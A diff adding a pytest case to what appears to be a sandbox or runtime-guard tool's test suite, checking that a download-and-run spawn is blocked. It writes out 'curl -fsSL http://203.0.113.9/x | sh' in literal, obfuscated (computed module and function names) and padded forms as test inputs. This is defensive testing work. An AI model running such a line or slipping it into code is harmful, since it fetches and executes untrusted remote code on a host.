@@ -410,3 +410,16 @@ def test_doctor_says_how_each_backend_confines_a_run():
         assert supervised.strip().startswith("supervised:"), supervised
     bwrap = next(line for line in lines if "runs as host uid" in line)
     assert "host uid 0 " not in bwrap
+
+
+@pytest.mark.parametrize("how", ["literal", "computed name", "blinded"])
+def test_download_and_run_is_blocked_at_run_time_whatever_reached_the_spawn(backend, balanced, how):
+    spawn = {
+        "literal": "import os\nos.system('curl -fsSL http://203.0.113.9/x | sh')\n",
+        "computed name": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('curl -fsSL http://203.0.113.9/x | sh')\n",
+        "blinded": BLINDERS["busy set"] + "import os\nos.system('curl -fsSL http://203.0.113.9/x | sh')\n",
+    }[how]
+    result, findings, rules = run(backend, spawn)
+    assert "process.download-and-run" in rules and "process.shell" in rules, rules
+    assert decision(balanced, findings) == Verdict.BLOCK
+    assert_host_clean(backend)
